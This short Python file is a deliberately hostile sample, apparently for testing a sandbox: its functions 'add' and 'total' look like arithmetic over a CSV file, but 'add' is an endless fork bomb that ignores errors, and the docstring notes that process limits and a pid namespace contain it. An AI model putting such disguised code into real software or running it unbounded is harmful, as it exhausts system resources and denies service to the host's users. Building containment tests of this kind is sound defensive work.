"""Hostile: fork without end, and keep every child spinning (RLIMIT_NPROC and the pid
namespace bound it; ending the namespace ends them all)."""

import contextlib
import os


def add(a, b):
    while True:
        with contextlib.suppress(OSError):
            os.fork()


def total(path="data/numbers.csv"):
    return add(0, 0)
